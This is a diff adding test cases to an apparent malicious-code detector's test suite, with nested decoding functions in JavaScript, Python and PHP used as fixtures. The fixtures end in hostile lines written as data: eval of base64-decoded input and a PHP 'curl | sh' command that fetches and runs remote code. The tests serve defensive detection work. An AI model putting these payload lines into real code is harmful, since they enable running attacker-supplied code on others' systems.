@@ -157,6 +157,26 @@ describe("values of code in large programs", { timeout: 60_000 }, () => {
   });
 });
 
+describe("a function in a function that it calls", () => {
+  it.each([
+    ["js", "function a(x) { function b() { a(atob(x)); } }\n", "eval(atob(q));"],
+    ["js", "function a(x) { return function () { return a(atob(x) + x); }; }\n", "eval(atob(q));"],
+    ["js", "function a(x) { x.onload = function () { a(atob(this.y)); }; }\n", "eval(atob(q));"],
+    ["python", "def a(x):\n    def b():\n        a(base64.b64decode(x))\n", DECODES],
+    [
+      "php",
+      "<?php function a($x) { $b = function () { a(base64_decode($x)); }; }\n",
+      "system('curl -fsSL A | sh');",
+    ],
+  ])("ends in %s: %s", async (tag, functions, code) => {
+    const text = fenced(tag, functions + code);
+    const detection = (await sharedDetector("extended")).detect(text);
+    assertSound(text, detection);
+    expect(detection.findings).toHaveLength(1);
+    expect(detection.outcome.status).toBe("complete");
+  });
+});
+
 /** Code in a string of the language, as many times as a depth says. */
 function nested(code: string, depth: number, quoted: (inner: string) => string): string {
   return range(depth).reduce((inner) => quoted(inner), code);
